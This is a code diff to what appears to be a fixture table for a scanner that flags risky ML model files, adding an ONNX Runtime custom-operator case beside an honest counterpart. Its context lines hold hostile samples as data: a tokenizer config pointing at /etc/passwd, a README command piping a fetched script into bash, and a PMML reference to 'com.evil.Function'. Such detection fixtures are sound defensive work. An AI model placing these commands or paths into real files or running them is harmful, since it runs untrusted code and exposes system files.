@@ -48,6 +48,7 @@ KINDS = (
     _one("tokenizer-config-away", "takes any file for the vocabulary", "config-reaches-out", "a file of the machine", "tokenizer", "tokenizer_config.json", lambda: b'{"vocab_file": "/etc/passwd"}'),
     _one("spacy-factory", "calls code of another package while it is loaded", "spacy-config", "'own.hook.v1'", "spacy", "config.cfg", lambda: SPACY),
     _one("card-command", "a command that readers copy", "card-commands", "runs what it fetches", "card", "README.md", lambda: CARD.format("curl -s https://example.org/x.sh | bash").encode()),
+    _one("ort-custom", "needs a native library of the publisher", "onnx-custom-operators", "the custom domain 'own.domain'", "ort", "model.ort", lambda: runtimes.ort(("own.domain", "Own"))),
     _one("pmml-java", "calls any class that the application finds", "pmml-functions", "the name of a Java class", "pmml", "model.pmml", lambda: pmml.apply("com.evil.Function")),
     _one("pmml-extension", "names a class in an extension", "pmml-functions", "'externalClass'", "pmml", "model.pmml", lambda: pmml.HOSTILE["a class of an extension"][0]),
     _one("mxnet-library", "runs code beside the graph", "mxnet-operators", "follows an address", "mxnet", "m-symbol.json", lambda: _mxnet("_Native")),
@@ -71,6 +72,7 @@ HONEST: dict[str, Callable[[], Files]] = {
     "tokenizer": lambda: {"tokenizer.json": tokenizers.tokenizer(pattern=next(iter(tokenizers.HONEST.values())))},
     "spacy": lambda: {"config.cfg": texts.SPACY.encode()},
     "card": lambda: {"README.md": CARD.format("pip install transformers").encode()},
+    "ort": lambda: {"model.ort": runtimes.ort()},
     "pmml": lambda: {"model.pmml": pmml.pmml(pmml.DEFINED)},
     "mxnet": lambda: {"m-symbol.json": _mxnet("Convolution")},
 }
